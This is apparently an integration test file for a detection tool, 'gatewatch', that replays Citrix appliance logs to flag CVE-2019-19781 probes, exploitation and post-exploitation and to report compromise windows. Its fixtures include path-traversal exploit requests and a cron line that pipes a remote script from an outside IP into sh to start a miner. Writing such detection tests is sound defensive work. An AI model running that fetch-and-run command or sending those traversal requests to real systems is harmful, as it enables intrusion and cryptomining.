//! `gatewatch replay`: files of several appliances over December 2019 – January 2020, and the same
//! history from Kafka, through the real binary.

#![allow(clippy::unwrap_used)] // a test, benchmark or example: failing loudly is the point

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::path::Path;
use std::process::{Command, Output};
use std::time::Duration;

use chrono::{DateTime, Duration as Span, Utc};
use common::*;
use serde_json::{json, Value};

fn t(s: &str) -> DateTime<Utc> {
    s.parse().unwrap()
}

/// Benign traffic of one appliance: a login and a back-end connection every two hours.
fn benign(host: &str, from: DateTime<Utc>, to: DateTime<Utc>) -> Vec<Line> {
    let mut out = Vec::new();
    let mut at = from;
    let mut n = 0u32;
    while at < to {
        let user = format!("user{}", n % 5);
        let session = 7000 + n;
        out.push(audit(at, host, n, "SSLVPN LOGIN", &format!("Context {user}@8.8.8.8 - SessionId: {session} - User {user} - Client_ip 8.8.8.8 - Nat_ip 10.8.0.1 - Vserver 10.0.0.10:443")));
        let backend = if (n / 2).is_multiple_of(2) { "10.20.0.5:443" } else { "10.20.0.7:445" };
        out.push(audit(at + Span::minutes(1), host, n + 1, "SSLVPN TCPCONNSTAT", &format!("Context {user}@8.8.8.8 - SessionId: {session} - User {user} - Client_ip 8.8.8.8 - Nat_ip 10.8.0.1 - Vserver 10.0.0.10:443 - Source 8.8.8.8:50000 - Destination {backend} - Start_time \"01/10/2020:00:00:00 GMT\" - End_time \"01/10/2020:00:01:00 GMT\" - Duration 00:01:00  - Total_bytes_send 100 - Total_bytes_recv 200 - Total_compressedbytes_send 0 - Total_compressedbytes_recv 0 - Compression_ratio_send 0.00% - Compression_ratio_recv 0.00% - Access Allowed - Group(s) \"staff\"")));
        at += Span::hours(2);
        n += 2;
    }
    out
}

/// Four appliances from 17 December 2019 to 20 January 2020:
/// - adc-a: probed, exploited (template written and fetched), a miner started by cron as nobody;
/// - adc-b: probed and attacked, but mitigated before the exploits were public;
/// - adc-c: only probed, but mitigated late;
/// - adc-d: nothing.
fn history() -> BTreeMap<&'static str, Vec<Line>> {
    let (from, to) = (t("2019-12-17T00:00:00Z"), t("2020-01-20T00:00:00Z"));
    let mut out: BTreeMap<&str, Vec<Line>> =
        ["adc-a", "adc-b", "adc-c", "adc-d"].into_iter().map(|h| (h, benign(h, from, to))).collect();
    let a = out.get_mut("adc-a").unwrap();
    a.push(access(t("2020-01-10T19:00:00Z"), "adc-a", "203.0.113.9", "GET", "/vpn/../vpns/cfg/smb.conf", 200));
    a.push(access(
        t("2020-01-10T20:05:00Z"),
        "adc-a",
        "203.0.113.9",
        "POST",
        "/vpn/../vpns/portal/scripts/newbm.pl",
        200,
    ));
    a.push(access(t("2020-01-10T20:06:00Z"), "adc-a", "203.0.113.9", "GET", "/vpn/../vpns/portal/evil.xml", 200));
    a.push(cron(t("2020-01-11T02:00:00Z"), "adc-a", "nobody", "curl http://62.113.112.33/ci.sh | sh > /dev/null 2>&1"));
    let b = out.get_mut("adc-b").unwrap();
    b.push(access(t("2020-01-11T08:00:00Z"), "adc-b", "198.51.100.23", "GET", "/vpn/../vpns/cfg/smb.conf", 403));
    b.push(access(
        t("2020-01-11T08:01:00Z"),
        "adc-b",
        "198.51.100.23",
        "POST",
        "/vpn/../vpns/portal/scripts/newbm.pl",
        403,
    ));
    let c = out.get_mut("adc-c").unwrap();
    c.push(access(t("2020-01-12T09:00:00Z"), "adc-c", "192.0.2.44", "GET", "/vpn/%2e%2e/vpns/portal/x.xml", 404));
    for lines in out.values_mut() {
        lines.sort_by_key(|(at, _, _)| *at);
    }
    out
}

/// adc-a's CPU every five minutes from 1 January, and a miner from 02:00 on 11 January.
fn metrics() -> String {
    let start = t("2020-01-01T00:00:00Z");
    let miner = t("2020-01-11T02:00:00Z");
    let mut out = String::new();
    let mut seed: u64 = 11;
    for i in 0..14 * 288 {
        let at = start + Span::minutes(5 * i);
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        let noise = ((seed >> 11) as f64 / (1u64 << 53) as f64 - 0.5) * 0.03;
        let hour = (at.timestamp() % 86_400) as f64 / 3600.0;
        let cpu = 0.15 + 0.2 * (-(hour - 13.0).powi(2) / 18.0).exp() + noise + if at >= miner { 0.5 } else { 0.0 };
        let doc = json!({"@timestamp": at.to_rfc3339(), "observer": {"hostname": "adc-a"}, "system.cpu.total.pct": cpu.clamp(0.0, 1.0)});
        out.push_str(&format!("{doc}\n"));
    }
    out
}

fn gatewatch(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_gatewatch"));
    cmd.current_dir(dir)
        .args(args)
        .env_clear()
        .env("GATEWATCH__DETECT__RULES_DIRS", Path::new(env!("CARGO_MANIFEST_DIR")).join("rules"));
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.output().unwrap()
}

fn text(o: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr))
}

/// Writes each appliance's lines as `<dir>/<appliance>/syslog.log[.gz|.zst]`, compressed three ways.
fn write_files(dir: &Path) {
    for (i, (host, lines)) in history().into_iter().enumerate() {
        let sub = dir.join("logs").join(host);
        std::fs::create_dir_all(&sub).unwrap();
        let body: String = lines.iter().map(|(_, _, l)| format!("{l}\n")).collect();
        match i % 3 {
            0 => {
                let mut e = flate2::write::GzEncoder::new(
                    std::fs::File::create(sub.join("syslog.log.gz")).unwrap(),
                    flate2::Compression::default(),
                );
                e.write_all(body.as_bytes()).unwrap();
                e.finish().unwrap();
            }
            1 => std::fs::write(sub.join("syslog.log.zst"), zstd::encode_all(body.as_bytes(), 3).unwrap()).unwrap(),
            _ => std::fs::write(sub.join("syslog.log"), body).unwrap(),
        }
    }
    std::fs::write(dir.join("metrics.ndjson"), metrics()).unwrap();
}

const MITIGATIONS: [&str; 6] = [
    "--mitigation-date",
    "adc-a=2020-01-13",
    "--mitigation-date",
    "adc-b=2020-01-08",
    "--mitigation-date",
    "adc-c=2020-01-15",
];

fn replay_files(dir: &Path, alerts: &str, report: &str) -> Output {
    let mut args = vec!["replay", "--from", "2019-12-17T00:00:00Z", "--to", "2020-01-20T00:00:00Z"];
    args.extend([
        "--input",
        "logs/*/syslog.log*",
        "--metrics",
        "metrics.ndjson",
        "--alerts-out",
        alerts,
        "--report",
        report,
    ]);
    args.extend(MITIGATIONS);
    gatewatch(dir, &args, &[])
}

#[test]
fn file_replay_gives_the_expected_alerts_and_verdicts_and_repeats_byte_for_byte() {
    let dir = tempfile::tempdir().unwrap();
    write_files(dir.path());
    let out = replay_files(dir.path(), "alerts.ndjson", "report.json");
    assert!(out.status.success(), "{}", text(&out));
    let alerts: Vec<Value> = std::fs::read_to_string(dir.path().join("alerts.ndjson"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let got: BTreeSet<(String, String)> = alerts
        .iter()
        .map(|a| (a["rule"]["id"].as_str().unwrap().to_owned(), a["observer"]["hostname"].as_str().unwrap().to_owned()))
        .collect();
    let expected: BTreeSet<(String, String)> = [
        ("gw-citrix-cve-2019-19781-probe", "adc-a"),
        ("gw-citrix-cve-2019-19781-exploit-attempt", "adc-a"),
        ("gw-citrix-cve-2019-19781-likely-success", "adc-a"),
        ("gw-citrix-cve-2019-19781-post-exploitation", "adc-a"),
        ("gatewatch-baseline-cpu", "adc-a"),
        ("gw-citrix-cve-2019-19781-probe", "adc-b"),
        ("gw-citrix-cve-2019-19781-exploit-attempt", "adc-b"),
        ("gw-citrix-cve-2019-19781-probe", "adc-c"),
    ]
    .iter()
    .map(|(r, h)| (r.to_string(), h.to_string()))
    .collect();
    assert_eq!(got, expected, "{}", text(&out));
    for a in &alerts {
        assert_eq!(a["tags"], json!(["retro"]), "{a}");
        assert!(a["gatewatch"]["replay"]["run_id"].is_string());
        assert_eq!(a["event"]["created"], a["@timestamp"], "event time, so replays repeat exactly");
    }

    let report: Value =
        serde_json::from_str(&std::fs::read_to_string(dir.path().join("report.json")).unwrap()).unwrap();
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/replay-report.schema.json")).unwrap(),
    )
    .unwrap();
    validate(&report, &schema, &schema, "report").unwrap();
    // The check itself bites: a field the schema does not declare fails it.
    let mut extra = report.clone();
    extra["appliances"][0]["surprise"] = json!(1);
    assert!(validate(&extra, &schema, &schema, "report").is_err());
    let by_host: BTreeMap<&str, &Value> =
        report["appliances"].as_array().unwrap().iter().map(|a| (a["appliance"].as_str().unwrap(), a)).collect();
    let verdicts: Vec<(&str, &str)> = by_host.iter().map(|(h, a)| (*h, a["verdict"].as_str().unwrap())).collect();
    assert_eq!(
        verdicts,
        [("adc-a", "compromised"), ("adc-b", "attempted"), ("adc-c", "likely-compromised"), ("adc-d", "not-seen")]
    );
    let a = by_host["adc-a"];
    assert_eq!(a["first_probe"]["at"], "2020-01-10T19:00:00Z");
    assert_eq!(a["first_exploit_attempt"]["at"], "2020-01-10T20:05:00Z");
    assert!(a["first_exploit_attempt"]["evidence"][0].as_str().unwrap().contains("newbm.pl"));
    assert_eq!(a["first_likely_success"]["rule"], "gw-citrix-cve-2019-19781-likely-success");
    assert_eq!(a["post_exploitation"][0]["at"], "2020-01-11T02:00:00Z");
    assert_eq!(
        a["window"],
        json!({"start": "2020-01-10T20:05:00Z", "end": "2020-01-13T00:00:00Z", "basis": "first exploitation evidence → mitigation"})
    );
    assert_eq!(a["sources"][0]["ip"], "203.0.113.9");
    // Logins every two hours for five users: all five were active in the 52-hour window.
    let users: Vec<&str> =
        a["sessions_in_window"].as_array().unwrap().iter().map(|s| s["user"].as_str().unwrap()).collect();
    assert_eq!(users, ["user0", "user1", "user2", "user3", "user4"]);
    let backends: Vec<&str> =
        a["backends_in_window"].as_array().unwrap().iter().map(|b| b["ip"].as_str().unwrap()).collect();
    assert_eq!(backends, ["10.20.0.5", "10.20.0.7"]);
    assert_eq!(a["backends_in_window"][1]["ports"], json!([445]));
    let anomaly = &a["anomalies"][0];
    assert_eq!(
        (anomaly["rule"].as_str(), anomaly["at"].as_str()),
        (Some("gatewatch-baseline-cpu"), Some("2020-01-11T02:00:00Z"))
    );
    let c = by_host["adc-c"];
    assert!(c["reasons"].as_array().unwrap().iter().any(|r| r.as_str().unwrap().contains("assume compromise")), "{c}");
    assert_eq!(c["window"]["start"], "2020-01-10T00:00:00Z", "late mitigation: from the publication");
    let b = by_host["adc-b"];
    assert!(b["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r.as_str().unwrap().contains("before the exploit publication")));
    assert!(by_host["adc-d"]["window"].is_null() && by_host["adc-d"]["sessions_in_window"] == json!([]));

    // Twice: byte-identical alerts (and the same report).
    let again = replay_files(dir.path(), "alerts-2.ndjson", "report-2.json");
    assert!(again.status.success(), "{}", text(&again));
    assert_eq!(
        std::fs::read(dir.path().join("alerts.ndjson")).unwrap(),
        std::fs::read(dir.path().join("alerts-2.ndjson")).unwrap()
    );
    assert_eq!(
        std::fs::read(dir.path().join("report.json")).unwrap(),
        std::fs::read(dir.path().join("report-2.json")).unwrap()
    );
    // In bounded memory (records ordered through sorted runs on disk) and on any number of threads: the
    // same alerts and report.
    for (workers, sort_memory) in [("1", "2KiB"), ("3", "64MiB"), ("4", "2KiB")] {
        let mut args = vec!["replay", "--from", "2019-12-17T00:00:00Z", "--to", "2020-01-20T00:00:00Z"];
        args.extend(["--input", "logs/*/syslog.log*", "--metrics", "metrics.ndjson", "--sort-memory", sort_memory]);
        args.extend(["--alerts-out", "alerts-3.ndjson", "--report", "report-3.json"]);
        args.extend(MITIGATIONS);
        let run = gatewatch(dir.path(), &args, &[("GATEWATCH__PIPELINE__WORKERS", workers)]);
        assert!(run.status.success(), "{}", text(&run));
        assert_eq!(text(&run).contains("sorted runs on disk"), sort_memory == "2KiB", "{}", text(&run));
        for (first, this) in [("alerts.ndjson", "alerts-3.ndjson"), ("report.json", "report-3.json")] {
            let same = std::fs::read(dir.path().join(first)).unwrap() == std::fs::read(dir.path().join(this)).unwrap();
            assert!(same, "{workers} workers, --sort-memory {sort_memory}: {this} differs from {first}");
        }
    }

    // The Markdown rendering, for people.
    let md = replay_files(dir.path(), "-", "report.md");
    assert!(md.status.success(), "{}", text(&md));
    let report_md = std::fs::read_to_string(dir.path().join("report.md")).unwrap();
    for needle in [
        "# Compromise-window report",
        "| adc-a | **compromised** | 2020-01-10T20:05:00Z → 2020-01-13T00:00:00Z |",
        "## adc-c — likely-compromised",
        "### Accounts active during the window (reset them)",
        "### Back-end systems it connected to during the window",
        "### CPU / memory anomalies",
        "### Recommended actions",
    ] {
        assert!(report_md.contains(needle), "missing {needle:?} in:\n{report_md}");
    }
    // `--alerts-out -` writes the alerts to stdout, the summary to stderr.
    assert_eq!(String::from_utf8_lossy(&md.stdout).lines().count(), alerts.len());
    assert!(String::from_utf8_lossy(&md.stderr).contains("adc-a"), "{}", text(&md));
}

#[test]
fn the_range_limits_what_is_replayed() {
    let dir = tempfile::tempdir().unwrap();
    write_files(dir.path());
    // Only 11 January: adc-a's cron job and adc-b's attack, nothing of 10 January.
    let args = [
        "replay",
        "--from",
        "2020-01-11",
        "--to",
        "2020-01-12",
        "--input",
        "logs/*/syslog.log*",
        "--alerts-out",
        "a.ndjson",
    ];
    let out = gatewatch(dir.path(), &args, &[]);
    assert!(out.status.success(), "{}", text(&out));
    let rules: BTreeSet<String> = std::fs::read_to_string(dir.path().join("a.ndjson"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["rule"]["id"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        rules,
        [
            "gw-citrix-cve-2019-19781-exploit-attempt",
            "gw-citrix-cve-2019-19781-post-exploitation",
            "gw-citrix-cve-2019-19781-probe"
        ]
        .map(String::from)
        .into_iter()
        .collect()
    );
    // Four appliances × 12 two-hourly slots × 2 lines, plus the cron job and adc-b's two requests.
    assert!(text(&out).contains(": 99 records (0 unparsed)"), "{}", text(&out));
}

#[test]
fn enriched_out_writes_every_event_as_the_enriched_topic_would_carry_it() {
    let dir = tempfile::tempdir().unwrap();
    write_files(dir.path());
    let mut args = vec!["replay", "--from", "2020-01-11", "--to", "2020-01-12", "--input", "logs/*/syslog.log*"];
    args.extend(["--alerts-out", "a.ndjson", "--enriched-out", "events.ndjson"]);
    let out = gatewatch(dir.path(), &args, &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains(": 99 records (0 unparsed)"), "{}", text(&out));
    let events: Vec<Value> = std::fs::read_to_string(dir.path().join("events.ndjson"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(events.len(), 99, "one document per replayed record");
    for e in &events {
        assert_eq!(e["event"]["kind"], "event");
        assert!(e["observer"]["hostname"].is_string(), "{e}");
        assert!(e["gatewatch"]["source"]["file"].as_str().unwrap().starts_with("logs/"), "{e}");
        assert!(e["gatewatch"]["source"]["line"].as_u64().unwrap() > 0, "{e}");
        let at = e["@timestamp"].as_str().unwrap();
        assert!(at.starts_with("2020-01-11"), "{at}");
    }
    // Every alert's evidence is one of the events.
    let originals: BTreeSet<&str> = events.iter().filter_map(|e| e["event"]["original"].as_str()).collect();
    let alerts = std::fs::read_to_string(dir.path().join("a.ndjson")).unwrap();
    for alert in alerts.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()) {
        for ev in alert["gatewatch"]["evidence"].as_array().unwrap() {
            assert!(originals.contains(ev["original"].as_str().unwrap()), "{ev}");
        }
    }
    // Two outputs on stdout would interleave: refused, naming both.
    let both = ["replay", "--from", "2020-01-11", "--input", "logs/*/syslog.log*", "--alerts-out", "-"];
    let out = gatewatch(dir.path(), &[&both[..], &["--enriched-out", "-"]].concat(), &[]);
    assert!(!out.status.success());
    assert!(text(&out).contains("--alerts-out - and --enriched-out - would all write to stdout"), "{}", text(&out));
}

/// Checks `value` against the subset of JSON Schema the report schema uses.
fn validate(value: &Value, schema: &Value, root: &Value, at: &str) -> Result<(), String> {
    let fail = |why: String| Err(format!("{at}: {why}"));
    if let Some(r) = schema.get("$ref").and_then(Value::as_str) {
        let target = r.trim_start_matches("#/").split('/').fold(root, |node, part| &node[part]);
        return validate(value, target, root, at);
    }
    if let Some(options) = schema.get("oneOf").and_then(Value::as_array) {
        let fits = options.iter().filter(|o| validate(value, o, root, at).is_ok()).count();
        return if fits == 1 { Ok(()) } else { fail(format!("{value} fits {fits} of oneOf")) };
    }
    if schema.get("const").is_some_and(|c| c != value) {
        return fail(format!("{value} is not {}", schema["const"]));
    }
    if schema.get("enum").and_then(Value::as_array).is_some_and(|e| !e.contains(value)) {
        return fail(format!("{value} not in {}", schema["enum"]));
    }
    let types: Vec<&str> = match schema.get("type") {
        Some(Value::String(t)) => vec![t.as_str()],
        Some(Value::Array(ts)) => ts.iter().filter_map(Value::as_str).collect(),
        _ => vec![],
    };
    let kind = match value {
        Value::Null => "null",
        Value::Bool(_) => "boolean",
        Value::Number(n) if n.is_u64() || n.is_i64() => "integer",
        Value::Number(_) => "number",
        Value::String(_) => "string",
        Value::Array(_) => "array",
        Value::Object(_) => "object",
    };
    let fits = types.is_empty() || types.contains(&kind) || (kind == "integer" && types.contains(&"number"));
    if !fits {
        return fail(format!("{kind} is not {types:?}"));
    }
    if let Value::Object(map) = value {
        for key in schema.get("required").and_then(Value::as_array).into_iter().flatten() {
            if !map.contains_key(key.as_str().unwrap()) {
                return fail(format!("{key} missing"));
            }
        }
        for (k, v) in map {
            let path = format!("{at}.{k}");
            match (schema.get("properties").and_then(|p| p.get(k)), schema.get("additionalProperties")) {
                (Some(s), _) => validate(v, s, root, &path)?,
                (None, Some(Value::Bool(false))) => return fail(format!("{k} is not in the schema")),
                (None, Some(s @ Value::Object(_))) => validate(v, s, root, &path)?,
                _ => {}
            }
        }
    }
    if let (Value::Array(items), Some(s)) = (value, schema.get("items")) {
        for (i, item) in items.iter().enumerate() {
            validate(item, s, root, &format!("{at}[{i}]"))?;
        }
    }
    Ok(())
}

#[test]
fn kafka_replay_selects_the_range_leaves_the_live_group_alone_and_repeats_live_alert_ids() {
    let broker = Broker::start();
    let topics = Topics::new("replay-kafka");
    topics.create(&broker, 2);
    // adc-a's and adc-b's history with their real times as record timestamps, by appliance partition.
    let history = history();
    let records: Vec<(i32, DateTime<Utc>, Vec<u8>)> = ["adc-a", "adc-b"]
        .iter()
        .enumerate()
        .flat_map(|(p, host)| {
            history[host]
                .iter()
                .filter(|(at, _, _)| *at >= t("2020-01-09T00:00:00Z") && *at < t("2020-01-13T00:00:00Z"))
                .map(move |(at, _, line)| (p as i32, *at, line.clone().into_bytes()))
        })
        .collect();
    let landed = broker.produce_at(&topics.input, &records);
    // The live service over everything.
    let live = Gatewatch::spawn(&broker, &topics, &[]);
    let enriched = broker.read(&topics.enriched, landed.len(), Duration::from_secs(90));
    assert_eq!(enriched.len(), landed.len(), "log:\n{}", live.log_text());
    let live_alerts: Vec<Value> =
        broker.read(&topics.alerts, 6, Duration::from_secs(20)).iter().map(Record::json).collect();
    let mut live = live;
    live.signal("TERM");
    assert!(live.wait_timeout(Duration::from_secs(30)).expect("stopped").success());
    let committed = broker.committed(&topics.group, &topics.input, 2);
    assert_eq!(committed.values().sum::<i64>(), landed.len() as i64, "{committed:?}");

    // Replay 10–12 January (exclusive) with the same configuration: the group, the brokers, the topic.
    let dir = tempfile::tempdir().unwrap();
    let env = [
        ("GATEWATCH__KAFKA__BROKERS", broker.bootstrap.as_str()),
        ("GATEWATCH__KAFKA__GROUP_ID", topics.group.as_str()),
        ("GATEWATCH__KAFKA__INPUT_TOPICS", topics.input.as_str()),
        ("GATEWATCH__KAFKA__SESSION_TIMEOUT", "6s"),
    ];
    let args = ["replay", "--kafka", "--from", "2020-01-10", "--to", "2020-01-12", "--alerts-out", "alerts.ndjson"];
    let out = gatewatch(dir.path(), &args, &env);
    assert!(out.status.success(), "{}", text(&out));
    let in_range =
        records.iter().filter(|(_, at, _)| *at >= t("2020-01-10T00:00:00Z") && *at < t("2020-01-12T00:00:00Z")).count();
    assert!(text(&out).contains(&format!(": {in_range} records (0 unparsed)")), "expected {in_range}: {}", text(&out));
    let replayed: Vec<Value> = std::fs::read_to_string(dir.path().join("alerts.ndjson"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    // The same records give the same alert ids as live; live alerts from outside the range are not repeated.
    let ids = |alerts: &[Value]| -> BTreeSet<String> {
        alerts.iter().map(|a| a["event"]["id"].as_str().unwrap().to_owned()).collect()
    };
    assert!(!replayed.is_empty());
    assert_eq!(ids(&replayed), ids(&live_alerts), "live: {live_alerts:#?}\nreplayed: {replayed:#?}");
    // The live group's offsets did not move.
    assert_eq!(broker.committed(&topics.group, &topics.input, 2), committed);
    // Without --to: to the end of each partition.
    let open = gatewatch(dir.path(), &["replay", "--kafka", "--from", "2020-01-12", "--alerts-out", "b.ndjson"], &env);
    let after = records.iter().filter(|(_, at, _)| *at >= t("2020-01-12T00:00:00Z")).count();
    assert!(text(&open).contains(&format!(": {after} records")), "expected {after}: {}", text(&open));
}

#[test]
fn a_feed_snapshot_pins_the_indicators_so_the_hunt_repeats() {
    let dir = tempfile::tempdir().unwrap();
    write_files(dir.path());
    std::fs::write(dir.path().join("feed.csv"), "type,value,source\nipv4,203.0.113.9,cert-feed\n").unwrap();
    std::fs::write(
        dir.path().join("gw.toml"),
        "[[enrich.ioc.feeds]]\nname = \"cert\"\npath = \"feed.csv\"\nformat = \"csv\"\n",
    )
    .unwrap();
    let hunt = |alerts: &str, snapshot: bool| {
        let mut args = vec!["--config", "gw.toml", "replay", "--from", "2020-01-10", "--to", "2020-01-12"];
        args.extend(["--input", "logs/adc-a/*", "--alerts-out", alerts]);
        if snapshot {
            args.extend(["--feeds-snapshot", "snap"]);
        }
        let out = gatewatch(dir.path(), &args, &[]);
        assert!(out.status.success(), "{}", text(&out));
        std::fs::read_to_string(dir.path().join(alerts)).unwrap()
    };
    let ioc_alerts = |ndjson: &str| ndjson.lines().filter(|l| l.contains("\"gw-ioc-match\"")).count();
    // The first hunt takes the snapshot; the feed then changes (the address is withdrawn).
    let first = hunt("first.ndjson", true);
    assert!(ioc_alerts(&first) > 0, "{first}");
    assert!(dir.path().join("snap/snapshot.json").is_file());
    std::fs::write(dir.path().join("feed.csv"), "type,value,source\nipv4,192.0.2.1,cert-feed\n").unwrap();
    // With the snapshot the hunt repeats exactly; without it, today's feed no longer matches.
    assert_eq!(hunt("again.ndjson", true), first);
    assert_eq!(ioc_alerts(&hunt("today.ndjson", false)), 0);
    // A tampered snapshot is refused.
    let pinned = std::fs::read_dir(dir.path().join("snap"))
        .unwrap()
        .flatten()
        .find(|e| e.path().extension().is_some_and(|x| x == "csv"))
        .unwrap();
    std::fs::write(pinned.path(), "type,value\nipv4,198.51.100.1\n").unwrap();
    let out = gatewatch(
        dir.path(),
        &[
            "--config",
            "gw.toml",
            "replay",
            "--from",
            "2020-01-10",
            "--input",
            "logs/adc-a/*",
            "--alerts-out",
            "x",
            "--feeds-snapshot",
            "snap",
        ],
        &[],
    );
    assert!(!out.status.success() && text(&out).contains("changed since the snapshot"), "{}", text(&out));
}

/// Headless Chromium (Debian package `chromium`, installed by scripts/setup.sh), as the probe of this
/// machine kind starts it: no sandbox (root), no GPU, no background networking.
fn chromium(args: &[&str]) -> Output {
    let profile = tempfile::tempdir().unwrap();
    Command::new("chromium")
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"])
        .args(["--disable-background-networking", "--disable-component-update", "--disable-sync"])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .args(args)
        .output()
        .expect("run chromium (Debian package chromium, installed by scripts/setup.sh)")
}

#[test]
fn the_html_report_renders_in_a_browser_with_the_timeline_and_the_evidence() {
    let dir = tempfile::tempdir().unwrap();
    write_files(dir.path());
    let out = replay_files(dir.path(), "alerts.ndjson", "hunt.html");
    assert!(out.status.success(), "{}", text(&out));
    let html = dir.path().join("hunt.html");
    let page = std::fs::read_to_string(&html).unwrap();
    // Self-contained: nothing is fetched (the only URL is the SVG namespace).
    for fetch in ["<script", "<link", "src=\"http", "@import", "url("] {
        assert!(!page.contains(fetch), "{fetch} in the report");
    }
    let url = format!("file://{}", html.display());
    let dom = chromium(&["--dump-dom", &url]);
    assert!(dom.status.success(), "{}", text(&dom));
    let dom = String::from_utf8_lossy(&dom.stdout);
    // The fleet overview: one row per appliance, most serious first.
    let rows: Vec<&str> = dom.match_indices("<tr class=\"row ").map(|(i, _)| &dom[i + 15..i + 40]).collect();
    assert_eq!(rows.len(), 4, "{dom}");
    assert!(rows[0].starts_with("compromised"), "{rows:?}");
    // adc-a, compromised: a timeline with alert marks per stage, the window shaded, the mitigation,
    // the CPU series with its learned band and the anomaly.
    let a = &dom[dom.find("id=\"appliance-adc-a\"").expect("adc-a's section")..];
    let a = &a[..a.find("</section>").unwrap()];
    for needle in [
        "<svg class=\"timeline\"",
        "class=\"mark probe\"",
        "class=\"mark exploit-attempt\"",
        "class=\"mark post-exploitation\"",
        "class=\"window\"",
        "class=\"mitigation\"",
        "class=\"band\"",
        "class=\"series\"",
        "class=\"anomaly-mark\"",
        "Post-exploitation behaviours",
        "Accounts to reset",
        "Back-end systems contacted during the window",
        "Recommended actions",
    ] {
        assert!(a.contains(needle), "missing {needle:?} in adc-a's section:\n{a}");
    }
    // Each behaviour once: no row repeats.
    let behaviours: Vec<&str> =
        a.split("<tr class=\"behaviour\">").skip(1).map(|r| &r[..r.find("</tr>").unwrap()]).collect();
    assert!(!behaviours.is_empty());
    let distinct: BTreeSet<&str> = behaviours.iter().map(|r| &r[r.find("<code>").unwrap()..]).collect();
    assert_eq!(distinct.len(), behaviours.len(), "{behaviours:?}");

    // Drawn, not blank: a screenshot with a good share of pixels that are not the background.
    let png = dir.path().join("hunt.png");
    let shot = chromium(&["--window-size=1100,1400", &format!("--screenshot={}", png.display()), &url]);
    assert!(shot.status.success(), "{}", text(&shot));
    if let Some(keep) = std::env::var_os("GATEWATCH_KEEP_SCREENSHOT") {
        std::fs::copy(&png, keep).unwrap();
        std::fs::copy(&html, Path::new(&std::env::var_os("GATEWATCH_KEEP_SCREENSHOT").unwrap()).with_extension("html"))
            .unwrap();
    }
    let decoder = png::Decoder::new(std::io::BufReader::new(std::fs::File::open(&png).unwrap()));
    let mut reader = decoder.read_info().unwrap();
    let mut buf = vec![0; reader.output_buffer_size()];
    let info = reader.next_frame(&mut buf).unwrap();
    let channels = info.color_type.samples();
    let pixels: Vec<&[u8]> = buf[..info.buffer_size()].chunks(channels).collect();
    let background = pixels[0];
    let drawn = pixels.iter().filter(|p| p[..3] != background[..3]).count();
    let colours: BTreeSet<&[u8]> = pixels.iter().map(|p| &p[..3]).collect();
    assert!(drawn * 100 / pixels.len() >= 3, "only {drawn} of {} pixels drawn", pixels.len());
    assert!(colours.len() > 20, "{} colours: not the report", colours.len());
}
